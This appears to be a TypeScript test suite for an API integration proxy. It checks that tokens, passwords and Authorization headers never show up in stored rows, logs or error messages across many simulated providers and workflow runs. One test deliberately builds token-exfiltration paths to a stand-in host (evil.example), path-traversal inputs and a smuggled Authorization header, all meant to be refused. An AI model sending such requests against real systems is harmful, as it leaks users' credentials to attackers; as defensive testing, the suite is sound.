/**
 * One org, many connections, many kinds of calls (successes, retries, refreshes,
 * refusals, refused URLs quoting secrets, failures); then, after the suite, a scan:
 * no stored row (logs, audit, connections outside their ciphertexts) and no error
 * message holds a token, password, client secret or Authorization value, and every
 * call's correlation id finds its log row. Workflow runs (retries, failures, a step
 * tested) are among them, so their history is scanned too.
 */
import { afterAll, beforeAll, describe, expect, inject, test, vi } from "vitest";
import { REDACTED } from "../../lib/redact";
import { api } from "../_generated/api";
import schema from "../schema";
import { connectedWorld, type World } from "./test.world";

const simulatorUrl = inject("simulatorUrl");
const WORDPRESS_PASSWORD = "leak chec kpas swor d123 4567";

let w: World;
const correlationIds = new Set<string>();
const errorTexts: string[] = [];

/** Runs a call, remembering its correlation id and, when it fails, everything its error says. */
async function record(promise: Promise<{ correlationId: string }>) {
  try {
    const result = await promise;
    correlationIds.add(result.correlationId);
  } catch (error) {
    const data = (error as { data?: { correlationId?: string } }).data;
    errorTexts.push(String((error as Error).message), JSON.stringify(data ?? null));
    expect(data?.correlationId, String(error)).toEqual(expect.any(String));
    correlationIds.add(data!.correlationId!);
  }
}

beforeAll(async () => {
  w = await connectedWorld(simulatorUrl, "github", { lifetimeSeconds: 3600, rotation: "single_use" });
  await w.simulator.setTokenLifetime("linear", 3600);
  for (const providerId of ["linear", "slack", "linkedin", "salesforce", "notion"]) await w.connect(providerId);
  await w.simulator.addWordPressUser("leaky", WORDPRESS_PASSWORD);
  await w.admin.as.action(api.integrations.credentials.connect, {
    orgId: w.orgId,
    providerId: "wordpress",
    values: { siteUrl: await w.simulator.siteUrl("wordpress"), username: "leaky", applicationPassword: WORDPRESS_PASSWORD },
  });
  const [trello] = await w.simulator.apiKeyCredentials("trello");
  await w.admin.as.action(api.integrations.credentials.connect, { orgId: w.orgId, providerId: "trello", values: trello! });
});
afterAll(async () => w?.stop());

describe("calls of every kind", () => {
  test("successes on every connected provider", async () => {
    for (const [providerId, path] of [
      ["github", "/user/repos"],
      ["linear", "/graphql"],
      ["slack", "/conversations.list"],
      ["linkedin", "/v2/me"],
      ["salesforce", "/services/data/v60.0/query"],
      ["notion", "/v1/search"],
      ["wordpress", "/wp/v2/posts"],
      ["trello", "/1/members/me/boards"],
    ] as const) {
      await record(w.call({ providerId, path, query: { page: "1" } }));
    }
  });

  test("retries, refreshes after expiry and after 401, and rotation", async () => {
    await w.simulator.failNext("github", "api", { kind: "rate_limit", retryAfterSeconds: 0 });
    await record(w.call({ path: "/user/repos" }));
    await w.expireEverywhere("github");
    await Promise.all(Array.from({ length: 5 }, () => record(w.call({ path: "/user/repos" }))));
    await w.simulator.expireToken(await w.liveAccessToken("linear"));
    await record(w.call({ providerId: "linear", method: "POST", path: "/graphql", body: '{"query":"{ viewer { id } }"}' }));
  });

  test("refused URLs and inputs, including ones that quote the credential", async () => {
    const token = await w.liveAccessToken("github");
    for (const path of [
      `https://evil.example/steal?access_token=${token}`,
      `https://evil.example/${token}`,
      `/../${token}`,
      `//evil.example/?t=${encodeURIComponent(token)}`,
    ]) {
      await record(w.call({ path }));
    }
    await record(w.call({ path: `/search/code?q=${token}` }));
    await record(w.call({ path: "/user/repos", headers: { Authorization: `Bearer ${token}` } }));
  });

  test("answers and failures that are not the caller's fault", async () => {
    await w.simulator.failNext("github", "api", { kind: "status", status: 500 });
    await record(w.call({ path: "/user/repos" }));
    await record(w.call({ providerId: "gmail", path: "/gmail/v1/users/me/messages" }));
    await w.simulator.revokeAll("linkedin");
    await record(w.call({ providerId: "linkedin", path: "/v2/me" }));
    await w.expireEverywhere("notion");
    await w.simulator.failNext("notion", "refresh", { kind: "invalid_grant" });
    await record(w.call({ providerId: "notion", path: "/v1/search", method: "POST", body: "{}" }));
    await w.simulator.addWordPressUser("leaky", "changed password entirely");
    await record(w.call({ providerId: "wordpress", path: "/wp/v2/posts" }));
  });

  test("admin test requests", async () => {
    await record(
      w.admin.as.action(api.calls.testRequest.send, { orgId: w.orgId, providerId: "trello", method: "GET", path: "/1/members/me" }),
    );
    await record(
      w.admin.as.action(api.calls.testRequest.send, {
        orgId: w.orgId,
        providerId: "github",
        method: "POST",
        path: "/repos/acme/app/issues",
        body: JSON.stringify({ title: "t", password: "typed-in-a-body-9911" }),
      }),
    );
  });
});

describe("workflow runs", () => {
  test("steps that succeed, are retried, fail, and one tested by hand", async () => {
    const workflowId = await w.admin.as.mutation(api.workflows.definitions.create, {
      orgId: w.orgId,
      definition: {
        name: "Leak check",
        trigger: { kind: "manual", sampleInput: { title: "sample", ticket: "tkt-0000" } },
        steps: [
          {
            key: "post",
            name: "Post",
            actionId: "slack.post_message",
            // The action ignores apiToken; history must not keep what it resolved to.
            input: { channel: "C0GENERAL", text: "Release {{trigger.title}}", apiToken: "{{trigger.ticket}}" },
            retry: { maxAttempts: 2, initialDelayMs: 1_000 },
          },
          { key: "reply", name: "Reply", actionId: "slack.reply_in_thread", input: { channel: "C0GENERAL", threadTs: "{{steps.post.output.ts}}", text: "notes" } },
          // Connected without reactions:write: refused before anything is sent.
          { key: "react", name: "React", actionId: "slack.add_reaction", input: { channel: "C0GENERAL", timestamp: "{{steps.post.output.ts}}", name: "tada" } },
        ],
      },
    });
    vi.useFakeTimers({ toFake: ["setTimeout", "clearTimeout", "Date"], shouldAdvanceTime: true });
    try {
      await w.simulator.failNext("slack", "api", { kind: "rate_limit", retryAfterSeconds: 1 });
      const runId = await w.admin.as.mutation(api.workflows.runs.start, { orgId: w.orgId, workflowId, input: { title: "v9", ticket: "tkt-5521" } });
      await w.t.finishAllScheduledFunctions(vi.runAllTimers);
      const run = (await w.t.run((ctx) => ctx.db.get(runId)))!;
      expect(run.steps.map((step) => [step.status, step.attempts])).toEqual([
        ["succeeded", 2],
        ["succeeded", 1],
        ["failed", 1],
      ]);
      expect(run.steps[0]!.input).toEqual({ channel: "C0GENERAL", text: "Release v9", apiToken: REDACTED });
      expect(run.steps[2]!.error).toMatchObject({ code: "missing_scope" });
      for (const step of run.steps.slice(0, 2)) correlationIds.add(step.correlationId!);
    } finally {
      vi.useRealTimers();
    }
    const tested = await w.admin.as.action(api.workflows.runs.testStep, { orgId: w.orgId, workflowId, stepKey: "post" });
    expect(tested.ok).toBe(true);
    correlationIds.add(tested.correlationId);
  });
});

describe("after the suite", () => {
  test("no row and no error message holds a token, password, client secret or Authorization value", async () => {
    const issued = await w.simulator.issuedTokens();
    expect(issued.length).toBeGreaterThan(10);
    const trello = (await w.simulator.apiKeyCredentials("trello"))[0]!;
    const secrets = [
      ...issued.map((token) => token.token),
      WORDPRESS_PASSWORD,
      WORDPRESS_PASSWORD.replace(/\s+/g, ""),
      btoa(`leaky:${WORDPRESS_PASSWORD}`),
      trello.token,
      "typed-in-a-body-9911",
      "sim-github-secret",
      "sim-linear-secret",
    ];
    const stored = await w.t.run(async (ctx) => {
      const rows: unknown[] = [];
      for (const table of Object.keys(schema.tables)) {
        for (const row of await ctx.db.query(table as keyof typeof schema.tables).collect()) {
          // Ciphertexts are what the vault tests are for; everything else must be clean.
          const { secrets: _ciphertexts, ...rest } = row as Record<string, unknown>;
          rows.push(rest);
        }
      }
      return JSON.stringify(rows);
    });
    const logs = await w.logs();
    expect(logs.length).toBeGreaterThan(20);
    // The scan saw run history.
    expect(stored).toContain('"workflowName":"Leak check"');
    const texts = { stored, errors: errorTexts.join("\n") };
    for (const [where, text] of Object.entries(texts)) {
      for (const secret of secrets) expect(text.includes(secret), `${where} contains ${secret.slice(0, 12)}…`).toBe(false);
      // An Authorization header may appear only with its value redacted.
      expect(text, where).not.toMatch(/(Bearer|Basic) (?!\[REDACTED\])[A-Za-z0-9._~+/=-]{8,}/);
    }
  });

  test("every call's correlation id finds its log row", async () => {
    expect(correlationIds.size).toBeGreaterThan(20);
    for (const correlationId of correlationIds) {
      const found = await w.admin.as.query(api.calls.logs.byCorrelationId, { orgId: w.orgId, correlationId });
      // The call's own row, plus the refresh it triggered when it needed one.
      expect(found.filter((row) => row.purpose === "call").length, correlationId).toBe(1);
      expect(found.every((row) => row.purpose === "call" || row.purpose === "refresh"), correlationId).toBe(true);
    }
  });
});
